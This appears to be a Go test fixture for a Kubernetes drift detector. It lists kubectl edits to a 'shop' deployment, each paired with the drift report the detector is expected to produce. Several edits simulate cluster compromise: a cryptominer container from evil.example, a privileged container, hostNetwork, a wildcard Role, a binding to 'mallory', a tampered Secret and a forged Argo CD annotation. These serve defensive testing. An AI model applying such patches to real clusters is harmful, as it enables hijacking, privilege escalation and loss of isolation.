package deployers

// edit is what a person does to the second release of the shop, and the one
// thing that must be said about it.
type edit struct {
	want string
	args []string // of kubectl
}

const (
	web       = "Deployment/web"
	container = "spec.template.spec.containers[name=web]"
)

// edits touch different fields, so that all of them can be made to one shop.
var edits = []edit{
	{"drift/modified " + web + " " + container + ".image by kubectl-set",
		[]string{"set", "image", "deployment/web", "web=nginx:latest"}},
	{"drift/added " + web + " " + container + ".env[name=DEBUG] by kubectl-set",
		[]string{"set", "env", "deployment/web", "--containers=web", "DEBUG=1"}},
	{"drift/removed " + web + " " + container + ".env[name=TRACE]",
		[]string{"set", "env", "deployment/web", "--containers=web", "TRACE-"}},
	{"drift/added " + web + " " + container + ".resources.limits.cpu by kubectl-set",
		[]string{"set", "resources", "deployment/web", "--containers=web", "--limits=cpu=2"}},
	{"drift/added " + web + " spec.template.spec.containers[name=miner] by kubectl-patch",
		patch("deployment/web", `{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example/miner"}]}}}}`)},
	{"drift/added " + web + " " + container + ".securityContext.privileged by k9s",
		patch("deployment/web", `{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}`, "--field-manager=k9s")},
	{"drift/added " + web + " spec.template.spec.hostNetwork by node-fetch", // Lens
		patch("deployment/web", `{"spec":{"template":{"spec":{"hostNetwork":true}}}}`, "--field-manager=node-fetch")},
	{"drift/added " + web + " metadata.labels.squad by kubectl-label",
		[]string{"label", "deployment/web", "squad=red"}},
	{"drift/modified " + web + " metadata.labels.team by kubectl-label",
		[]string{"label", "--overwrite", "deployment/web", "team=red"}},
	{`drift/added ` + web + ` metadata.annotations["example.com/why"] by kubectl-annotate`,
		[]string{"annotate", "deployment/web", "example.com/why=because"}},
	{`drift/added ` + web + ` metadata.annotations["argocd.argoproj.io/tracking-id"] by kubectl-annotate`, // a deployer's own mark, forged
		[]string{"annotate", "--overwrite", "deployment/web", "argocd.argoproj.io/tracking-id=other"}},
	{`drift/added ConfigMap/shop metadata.labels["app.kubernetes.io/managed-by"] by kubectl-label`,
		[]string{"label", "--overwrite", "configmap/shop", "app.kubernetes.io/managed-by=nobody"}},
	{"drift/modified StatefulSet/db spec.replicas by kubectl",
		[]string{"scale", "statefulset/db", "--replicas=3"}},
	{"drift/added StatefulSet/db spec.template.spec.dnsPolicy by kubectl-patch", // another value than the default's
		patch("statefulset/db", `{"spec":{"template":{"spec":{"dnsPolicy":"Default"}}}}`)},
	{"drift/modified ConfigMap/shop data.currency by kubectl-edit",
		[]string{"edit", "configmap/shop"}},
	{"drift/added ConfigMap/shop data.extra by kubectl-patch",
		patch("configmap/shop", `{"data":{"extra":"1"}}`)},
	{"drift/modified Secret/shop data.token by kubectl-patch",
		patch("secret/shop", `{"data":{"token":"aGFja2Vk"}}`)},
	{"drift/added Secret/shop data.extra by k9s",
		patch("secret/shop", `{"stringData":{"extra":"hacked"}}`, "--field-manager=k9s")},
	{"drift/added Service/web spec.ports[port=22,protocol=TCP] by kubectl-patch",
		patch("service/web", `{"spec":{"ports":[{"name":"ssh","port":22}]}}`)},
	{"drift/modified Ingress/web spec.rules by kubectl-edit",
		[]string{"edit", "ingress/web"}},
	{"drift/modified HorizontalPodAutoscaler/web spec.maxReplicas by kubectl-patch",
		patch("hpa/web", `{"spec":{"maxReplicas":50}}`)},
	{"drift/modified PodDisruptionBudget/web spec.minAvailable by kubectl-patch",
		patch("pdb/web", `{"spec":{"minAvailable":0}}`)},
	{"drift/modified NetworkPolicy/web spec.ingress by kubectl-patch",
		patch("networkpolicy/web", `{"spec":{"ingress":[{}]}}`)},
	{"drift/added CronJob/report spec.suspend by kubectl-patch",
		patch("cronjob/report", `{"spec":{"suspend":true}}`)},
	{"drift/modified Role/web rules by kubectl-patch",
		patch("role/web", `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`)},
	{"drift/modified ClusterRoleBinding/NAMESPACE-nodes subjects by kubectl-set",
		[]string{"set", "subject", "clusterrolebinding/NAMESPACE-nodes", "--user=mallory"}},
	{"drift/added ServiceAccount/web automountServiceAccountToken by kubectl-patch",
		patch("serviceaccount/web", `{"automountServiceAccountToken":false}`)},
	{"drift/modified Widget/main spec.size by k9s",
		patch("widget/main", `{"spec":{"size":7}}`, "--type=merge", "--field-manager=k9s")},
	{"drift/added Widget/main spec.colour by kubectl-patch",
		patch("widget/main", `{"spec":{"colour":"red"}}`, "--type=merge")},
}

func patch(object, text string, args ...string) []string {
	return append([]string{"patch", object, "-p", text}, args...)
}
